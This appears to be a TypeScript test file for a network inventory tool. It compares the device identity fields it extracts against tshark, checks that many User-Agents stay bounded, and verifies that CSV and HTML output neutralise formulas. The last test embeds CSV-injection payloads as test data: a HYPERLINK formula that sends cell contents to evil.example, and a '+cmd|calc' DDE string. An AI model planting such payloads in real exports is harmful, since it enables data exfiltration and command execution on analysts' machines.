/**
 * The identity section of device records (shared/inventory/identity.ts): on real corpus captures it
 * carries the values tshark reads for the same device, protocol by protocol; on a hostile capture
 * (hundreds of distinct User-Agents, one of them huge) it stays within its bounds and keeps the
 * newest; in CSV its chosen columns and JSON cell go through the formula-neutralising path.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { createAnalyzer, analyzeFile } from '../../src-main/engine/pipeline';
import { toCsv } from '../../src-main/cli/format';
import { renderHtmlReport } from '../../src-main/report/html';
import { MAX_IDENTITY_VALUE, MAX_PER_LABEL } from '../../shared/inventory/identity';
import type { DeviceJson, InventoryJson } from '../../shared/model/inventory';
import { PCAPS, CORPUS_SKIP } from '../helpers/corpus';
import { tsharkAvailable, tsharkFields } from '../helpers/tshark';
import { ascii, tcpFrame } from '../helpers/packets';
import { writePcap } from '../helpers/pcap-writer';
import { dhcpRequestFrame } from '../helpers/dhcp-frames';

async function analyze(path: string): Promise<InventoryJson> {
  const a = createAnalyzer();
  await analyzeFile(a, path);
  return a.snapshot();
}

interface Case {
  file: string;
  filter: string;
  /** tshark's field for the device: a MAC (eth.src, dhcp.hw.mac_addr) or ip.src. */
  by: string;
  field: string;
  group: string;
  label: string;
  /** tshark's occurrences of `field` in one frame to the values expected (default: each one). */
  values?: (occ: string[]) => string[];
}

const trim = (occ: string[]) => occ.map((v) => v.trim());
const CASES: Case[] = [
  {
    file: 'dhcp__zeek__dhcp.pcap',
    filter: 'dhcp.type == 1 && dhcp.option.hostname',
    by: 'eth.src',
    field: 'dhcp.option.hostname',
    group: 'dhcp',
    label: 'host name',
  },
  {
    file: 'dhcp__zeek__dhcp_discover_param_req_and_client_id.pcap',
    filter: 'dhcp.type == 1 && dhcp.option.request_list_item',
    // The client is the hardware address the message names (this one came through another MAC).
    by: 'dhcp.hw.mac_addr',
    field: 'dhcp.option.request_list_item',
    group: 'dhcp',
    label: 'parameter list',
    values: (occ) => [occ.join(',')],
  },
  {
    file: 'dhcp__suricata-verify__dhcp-eve-extended-option-60_input.pcap',
    filter: 'dhcp.type == 1 && dhcp.option.vendor_class_id',
    by: 'eth.src',
    field: 'dhcp.option.vendor_class_id',
    group: 'dhcp',
    label: 'vendor class',
  },
  {
    file: 'dhcpv6__tcpdump__dhcpv6-ia-na.pcap',
    filter: 'dhcpv6.msgtype == 1 || dhcpv6.msgtype == 3',
    by: 'eth.src',
    field: 'dhcpv6.duid.bytes',
    group: 'dhcpv6',
    label: 'duid',
    // The client's own DUID comes first (option 1); tshark prints bytes with colons.
    values: (occ) => occ.slice(0, 1).map((v) => v.replace(/:/g, '')),
  },
  {
    file: 'iot-setup__iot-sentinel__D-LinkCam_Setup-A-2-STA.pcap',
    filter: 'mdns && dns.flags.response == 1 && dns.txt',
    by: 'eth.src',
    field: 'dns.txt',
    group: 'mdns',
    label: 'model',
    values: (occ) => occ.filter((t) => t.startsWith('model_number=')).map((t) => t.slice(13)),
  },
  {
    file: 'ssdp__ndpi__ssdp-m-search-ua.pcap',
    filter: 'ssdp && http.user_agent',
    by: 'ip.src',
    field: 'http.user_agent',
    group: 'ssdp',
    label: 'user agent',
  },
  {
    file: 'tls-sni__zeek__chrome-34-google.pcap',
    filter: 'tls.handshake.ja3',
    by: 'ip.src',
    field: 'tls.handshake.ja3',
    group: 'tls',
    label: 'ja3',
  },
  {
    file: 'tls-sni__zeek__chrome-34-google.pcap',
    filter: 'tls.handshake.ja3s',
    by: 'ip.src',
    field: 'tls.handshake.ja3s',
    group: 'tls',
    label: 'ja3s',
  },
  {
    file: 'ssh__zeek__ssh1-ssh2-fingerprints.pcap',
    filter: 'ssh.protocol',
    by: 'ip.src',
    field: 'ssh.protocol',
    group: 'ssh',
    label: 'banner',
    values: trim,
  },
  {
    file: 'lldp-cdp__tcpdump__LLDP_and_CDP.pcap',
    filter: 'lldp.tlv.system.name',
    by: 'eth.src',
    field: 'lldp.tlv.system.name',
    group: 'lldp',
    label: 'system name',
  },
  {
    file: 'lldp-cdp__tcpdump__LLDP_and_CDP.pcap',
    filter: 'cdp.platform',
    by: 'eth.src',
    field: 'cdp.platform',
    group: 'cdp',
    label: 'platform',
  },
  {
    file: 'enip-listidentity__icsnpp-enip__enip_cip_example.pcap',
    filter: 'enip.lir.name',
    by: 'ip.src',
    field: 'enip.lir.name',
    group: 'enip',
    label: 'product name',
  },
  {
    file: 'enip-listidentity__icsnpp-enip__enip_cip_example.pcap',
    filter: 'enip.lir.serial',
    by: 'ip.src',
    field: 'enip.lir.serial',
    group: 'enip',
    label: 'serial',
  },
  {
    file: 's7comm-szl__icsnpp-s7comm__s7ident.pcap',
    filter: 's7comm.szl.001c.0007.cputypname',
    by: 'ip.src',
    field: 's7comm.szl.001c.0007.cputypname',
    group: 's7',
    label: 'cpu type',
  },
  {
    file: 's7comm-szl__icsnpp-s7comm__s7ident.pcap',
    filter: 's7comm.szl.001c.0001.name',
    by: 'ip.src',
    field: 's7comm.szl.001c.0001.name',
    group: 's7',
    label: 'plc name',
  },
  {
    file: 'bacnet__icsnpp-bacnet__bacnet_example.pcap',
    filter: 'bacapp.unconfirmed_service == 0',
    by: 'ip.src',
    field: 'bacapp.instance_number',
    group: 'bacnet',
    label: 'device instance',
  },
  {
    file: 'bacnet__icsnpp-bacnet__bacnet_example.pcap',
    filter: 'bacapp.unconfirmed_service == 0',
    by: 'ip.src',
    field: 'bacapp.vendor_identifier',
    group: 'bacnet',
    label: 'vendor id',
  },
  {
    file: 'profinet-dcp__iti-ics__profinet-wireshark-bug.pcap',
    // Responses: a Set request names another station, not its sender.
    filter: 'pn_dcp.suboption_device_nameofstation && pn_dcp.service_type == 1',
    by: 'eth.src',
    field: 'pn_dcp.suboption_device_nameofstation',
    group: 'profinet',
    label: 'station name',
    values: trim,
  },
  {
    file: 'profinet-dcp__iti-ics__profinet-wireshark-bug.pcap',
    filter: 'pn_dcp.suboption_vendor_id',
    by: 'eth.src',
    field: 'pn_dcp.suboption_vendor_id',
    group: 'profinet',
    label: 'vendor id',
  },
  {
    file: 'mqtt__ndpi__mqtt.pcap',
    filter: 'mqtt.clientid',
    by: 'ip.src',
    field: 'mqtt.clientid',
    group: 'mqtt',
    label: 'client id',
  },
];

function deviceFor(inv: InventoryJson, by: string, key: string): DeviceJson | undefined {
  if (by !== 'ip.src') return inv.devices.find((d) => d.mac === key);
  return (
    inv.devices.find((d) => d.ips.includes(key) && !d.router) ?? inv.devices.find((d) => d.ips.includes(key))
  );
}

test(
  'identity: the device record carries what tshark reads, per protocol, on real captures',
  { skip: CORPUS_SKIP || (!tsharkAvailable() && 'no tshark') },
  async (t) => {
    const cache = new Map<string, InventoryJson>();
    let compared = 0;
    const misses: string[] = [];
    for (const c of CASES) {
      const path = join(PCAPS, c.file);
      const inv = cache.get(c.file) ?? (await analyze(path));
      cache.set(c.file, inv);
      // Expected values per device key, from tshark.
      const want = new Map<string, Set<string>>();
      for (const [keys, occ] of tsharkFields(path, [c.by, c.field], 'a', c.filter).values()) {
        const key = keys[0];
        if (key === undefined) continue;
        const vals = (c.values ?? ((o: string[]) => o))(occ).filter((v) => v !== '');
        for (const v of vals) (want.get(key) ?? want.set(key, new Set()).get(key)!).add(v);
      }
      assert.ok(want.size > 0, `${c.file}: tshark shows no ${c.field}`);
      for (const [key, vals] of want) {
        const d = deviceFor(inv, c.by, key);
        if (d === undefined) {
          misses.push(`${c.file}: no device ${key}`);
          continue;
        }
        const have = (d.identity?.[c.group] ?? []).filter((f) => f.label === c.label).map((f) => f.value);
        for (const v of vals) {
          compared++;
          const value = v.length > MAX_IDENTITY_VALUE ? v.slice(0, MAX_IDENTITY_VALUE) : v;
          if (!have.some((h) => h.toLowerCase() === value.toLowerCase()))
            misses.push(
              `${c.file} ${key} ${c.group}/${c.label}: tshark ${JSON.stringify(v)}, ours ${JSON.stringify(have)}`,
            );
        }
      }
    }
    t.diagnostic(`compared ${compared} values over ${CASES.length} protocol fields`);
    assert.ok(compared >= CASES.length, 'every case compared at least one value');
    assert.deepEqual(misses, []);
  },
);

test('identity: hundreds of distinct User-Agents keep at most the newest few, each value bounded', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'glasspane-identity-'));
  try {
    const server = { mac: '02:00:00:00:00:01', ip: '10.9.0.1', port: 80 };
    const frames: { data: Uint8Array; ts: number }[] = [];
    const N = 300;
    const agent = (i: number) => (i === N - 1 ? 'Huge/' + 'x'.repeat(4000) : `Agent-${i}/1.0 (hostile)`);
    let ts = Date.UTC(2024, 0, 1);
    for (let i = 0; i < N; i++) {
      const client = { mac: '02:00:00:00:00:31', ip: '10.9.0.31', port: 20000 + i };
      const req = ascii(`GET /${i} HTTP/1.1\r\nHost: x\r\nUser-Agent: ${agent(i)}\r\n\r\n`);
      frames.push({ data: tcpFrame(client, server, new Uint8Array(0), { flags: 0x02 }), ts: ts++ });
      frames.push({ data: tcpFrame(server, client, new Uint8Array(0), { flags: 0x12 }), ts: ts++ });
      frames.push({ data: tcpFrame(client, server, req, { flags: 0x18 }), ts: ts++ });
    }
    const file = writePcap(join(dir, 'agents.pcap'), 1, frames);
    const inv = await analyze(file);
    const d = inv.devices.find((x) => x.ips.includes('10.9.0.31'));
    assert.ok(d?.identity, 'the client has an identity section');
    const uas = d.identity.http?.filter((f) => f.label === 'user agent') ?? [];
    assert.equal(uas.length, MAX_PER_LABEL);
    // The newest first: the huge one (clipped), then the ones before it.
    assert.equal(uas[0]!.value, agent(N - 1).slice(0, MAX_IDENTITY_VALUE));
    assert.deepEqual(
      uas.slice(1).map((f) => f.value),
      Array.from({ length: MAX_PER_LABEL - 1 }, (_, k) => agent(N - 2 - k)),
    );
    for (const f of uas) {
      assert.ok(f.value.length <= MAX_IDENTITY_VALUE);
      assert.ok(f.firstSeen <= f.lastSeen);
      assert.equal(f.protocol, 'http');
    }
    // The whole section stays small whatever the device sent.
    assert.ok(JSON.stringify(d.identity).length < 8 * 1024, `${JSON.stringify(d.identity).length} bytes`);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('identity in CSV: chosen columns and the JSON cell are formula-safe', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'glasspane-identity-csv-'));
  try {
    const server = { mac: '02:00:00:00:00:01', ip: '10.9.0.1', port: 80 };
    const client = { mac: '02:00:00:00:00:41', ip: '10.9.0.41', port: 40000 };
    const ua = '=HYPERLINK("http://evil.example/?"&A1,"x")';
    const req = ascii(`GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: ${ua}\r\n\r\n`);
    const file = writePcap(join(dir, 'csv.pcap'), 1, [
      { data: dhcpRequestFrame({ mac: '02:00:00:00:00:42', ip: '10.9.0.42' }, '+cmd|calc', 7) },
      { data: tcpFrame(client, server, new Uint8Array(0), { flags: 0x02 }) },
      { data: tcpFrame(server, client, new Uint8Array(0), { flags: 0x12 }) },
      { data: tcpFrame(client, server, req, { flags: 0x18 }) },
    ]);
    const inv = await analyze(file);
    const rows = parse(toCsv(inv), { columns: true }) as Record<string, string>[];
    const httpRow = rows.find((r) => r.ips === '10.9.0.41');
    assert.ok(httpRow, 'the HTTP client has a row');
    assert.equal(httpRow.user_agent, "'" + ua);
    assert.ok(httpRow.identity!.startsWith('{'));
    assert.deepEqual(JSON.parse(httpRow.identity!).http['user agent'], [ua]);
    const dhcpRow = rows.find((r) => r.mac === '02:00:00:00:00:42');
    assert.ok(dhcpRow, 'the DHCP client has a row');
    assert.deepEqual(JSON.parse(dhcpRow.identity!).dhcp['host name'], ['+cmd|calc']);
    // No cell of any row starts as a formula.
    for (const r of rows) for (const v of Object.values(r)) assert.doesNotMatch(v, /^[=+\-@\t\r]/);

    // The HTML report shows the same facts, escaped.
    const html = renderHtmlReport(inv, { sources: [file] });
    assert.ok(
      html.includes(
        'http user agent:</span> =HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;x&quot;)',
      ),
    );
    assert.ok(!html.includes(ua));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
